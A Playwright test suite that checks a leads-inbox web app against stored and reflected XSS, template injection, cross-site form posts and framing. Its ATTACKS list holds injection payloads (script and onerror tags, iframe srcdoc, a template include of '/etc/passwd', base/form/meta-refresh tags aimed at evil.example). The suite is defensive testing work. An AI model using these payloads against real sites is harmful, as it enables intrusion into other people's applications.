"""Attacks on the inbox in Chromium: what strangers store, and what their pages send."""

import shutil
from typing import TYPE_CHECKING, Any

import pytest
from browsers import BROWSER_IS_MISSING, FLAGS

from conftest import MARKER, MakeApp, Serve, make_key
from servers import Server

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.one_database

ATTACKS = [
    f"{MARKER}\"'><script>document.title='owned'</script>",
    f"{MARKER}'\"><img src=x onerror=\"document.title='owned'\"><svg onload=document.title='owned'>",
    f"{MARKER}</textarea></title></style></script><iframe srcdoc='<script>parent.document.title=1</script>'>",
    f"{MARKER}{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}<base href=//evil.example><form action=//evil.example>",
    f"{MARKER} javascript:document.title='owned'//<a href=javascript:document.title='owned'>\u202e</a>",
    f"{MARKER}\u2028<style>*{{display:none}}</style><link rel=stylesheet href=//evil.example>",
    f"{MARKER}<meta http-equiv=refresh content='0;url=//evil.example'><object data=//evil.example>",
]

# What a page consists of that could run, load or lead somewhere. Attacks must add nothing to it.
INVENTORY = """() => ({
  scripts: document.scripts.length,
  loading: document.querySelectorAll('iframe, object, embed, base, style, svg, meta[http-equiv], img[src=x]').length,
  handlers: [...document.querySelectorAll('*')].filter(
    each => each.getAttributeNames().some(name => name.startsWith('on') || name === 'style')).length,
  foreign: [...document.querySelectorAll('[href], [src], [action]')].filter(each => {
    const url = new URL(each.href ?? each.src ?? each.action, location);
    return url.protocol !== 'mailto:' && url.origin !== location.origin }).length,
})"""
SUBMIT = """([action, fields]) => {
  const form = document.createElement('form');
  Object.assign(form, { action, method: 'post' });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement('input'), { name, value }));
  }
  document.body.append(form);
  form.submit();
}"""
HARMLESS = {"scripts": 1, "loading": 0, "handlers": 0, "foreign": 0}


@pytest.fixture
def watched(page: "Page") -> tuple["Page", list[str]]:
    """A page, and what its browser reports: violations of the policy, errors and requests to elsewhere."""
    reports: list[str] = []

    def report(text: str) -> None:
        reports.append(text)

    page.on("console", lambda message: reports.append(message.text) if message.type != "log" else None)
    page.on("pageerror", lambda error: reports.append(str(error)))
    page.on("dialog", lambda dialog: reports.append(dialog.message))
    page.on("request", lambda request: reports.append(request.url) if "evil.example" in request.url else None)
    page.expose_function("report", report)
    page.add_init_script(
        "addEventListener('securitypolicyviolation', event => report(`${event.violatedDirective} ${event.blockedURI}`))"
    )
    return page, reports


def store(server: Server, number: int, attack: str) -> int:
    """Store a lead that is an attack in every part, repeated and with a note, and return its id."""
    lead: dict[str, Any] = {
        "full_name": attack[:255],
        "email": f"{MARKER}'{{{{7*7}}}}&{number}@example.com",
        "company": attack[:255],
        "message": f"{attack}\n{attack}",
        "source": attack[:100],
        "attributes": {attack[:100]: attack, "page": attack},
    }
    headers = {"User-Agent": attack.encode("ascii", "ignore").decode(), "Referer": "javascript:alert(1)"}
    stored = server.post("/leads", lead, headers=headers)
    assert stored.status == 201
    lead_id: int = stored.json()["id"]
    again = lead | {"message": f"Again {attack}", "attributes": {"page": f"Again {attack}"}}
    assert server.post("/leads", again, headers={"Prefer": "resolution=merge-duplicates"}).status == 200
    assert server.post(f"/leads/{lead_id}/notes", {"text": attack}).status == 201
    form = {"name": attack, "email": lead["email"], **{f"{attack[:90]}{each}": attack for each in range(60)}}
    assert server.pool.request("POST", "/leads", fields=form, encode_multipart=False).status == 200
    return lead_id


def test_nothing_that_strangers_store_runs_or_breaks_out(serve: Serve, watched: tuple["Page", list[str]]) -> None:
    server = serve(DATABASE_URL="sqlite:///./leads.db")
    destination = {"kind": "webhook", "url": "https://93.184.215.14/", "description": ATTACKS[0], "enabled": False}
    assert server.post("/destinations", destination).status == 201
    assert server.pool.request("PATCH", "/destinations/1", json={"enabled": True}).status == 200
    ids = [store(server, number, attack) for number, attack in enumerate(ATTACKS)]
    page, reports = watched

    for path in ("/inbox", *(f"/inbox/leads/{lead_id}{part}" for lead_id in ids for part in ("", "/erase"))):
        page.goto(server.url + path)
        assert page.evaluate(INVENTORY) == HARMLESS, path
        assert "owned" not in page.title().partition("·")[2]
        assert page.locator("h1").first.is_visible()
    page.goto(f"{server.url}/inbox/leads/1")
    assert page.locator("h1").inner_text() == ATTACKS[0]
    page.get_by_role("button", name="Contacted").click()
    page.get_by_text("Marked contacted.").wait_for()

    assert reports == []


def test_no_parameter_breaks_out(serve: Serve, page: "Page") -> None:
    server = serve(DATABASE_URL="sqlite:///./leads.db")
    store(server, 0, "Zebedee")
    paths = (
        "/inbox/%s",
        "/inbox?source=%s",
        "/inbox?q=%s",
        "/inbox?%s=%s",
        "/inbox?status=%s",
        "/inbox?erased=%s",
        "/inbox/leads/1?saved=%s&history=%s&q=%s&after=%s",
    )

    for attack in ATTACKS:
        quoted = "".join(f"%{byte:02x}" for byte in attack[:99].encode())
        for path in paths:
            page.goto(server.url + path.replace("%s", quoted))
            assert page.evaluate(INVENTORY) == HARMLESS, path


def test_forms_of_other_pages_change_nothing(serve: Serve, page: "Page", sites: tuple[str, str]) -> None:
    server = serve(DATABASE_URL="sqlite:///./leads.db")
    lead = {"full_name": f"{MARKER} Ada", "email": f"{MARKER}@example.com"}
    server.post("/leads", lead)
    page.goto(f"{server.url}/inbox/leads/1")
    state = {name: page.locator(f"input[name={name}]").first.input_value() for name in ("if_match", "seen")}

    # Another port of the same host, and another host.
    for site in (sites[0], sites[0].replace("127.0.0.1", "localhost")):
        page.goto(site)
        with page.expect_navigation():
            page.evaluate(SUBMIT, [f"{server.url}/inbox/leads/1", state | {"status": "lost"}])
        assert page.get_by_role("heading", name="Not allowed").is_visible()
        # The operations of the API that need no body are open to a form, too.
        page.goto(site)
        with page.expect_navigation():
            page.evaluate(SUBMIT, [f"{server.url}/destinations/1/test", {}])
        assert "A page of another site sent this request" in page.content()
        # No other page can look inside either.
        page.goto(site)
        add_frame = "url => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))"
        page.evaluate(add_frame, f"{server.url}/inbox")
        frame = page.locator("iframe").element_handle().content_frame()
        assert frame is not None
        frame.wait_for_load_state()
        assert MARKER not in frame.content()

    assert server.get("/leads/1").json()["status"] == "new"


def test_the_inbox_works_where_browsers_send_only_the_origin(
    serve: Serve, shared_app: MakeApp, database_url: str, browser: "Browser"
) -> None:
    """Over http:// and by a name, as in many private networks, there is no Sec-Fetch-Site."""
    server = serve(DATABASE_URL=database_url, AUTH="on")
    key = make_key(shared_app(), "read")
    chromium = shutil.which("chromium")
    assert chromium, BROWSER_IS_MISSING
    flags = [*FLAGS, "--host-resolver-rules=MAP leads.test 127.0.0.1"]
    with browser.browser_type.launch(executable_path=chromium, args=flags) as other:
        page = other.new_page()
        page.goto(f"http://leads.test:{server.port}/inbox")
        page.get_by_label("API key").fill(key)

        for button, title in (("Log in", "Leads"), ("Log out", "Log in")):
            with page.expect_request(lambda request: request.method == "POST") as sent:
                page.get_by_role("button", name=button).click()
            page.get_by_role("heading", name=title, exact=True).wait_for()
            headers = sent.value.all_headers()
            assert "sec-fetch-site" not in headers
            assert headers["origin"] == f"http://leads.test:{server.port}"
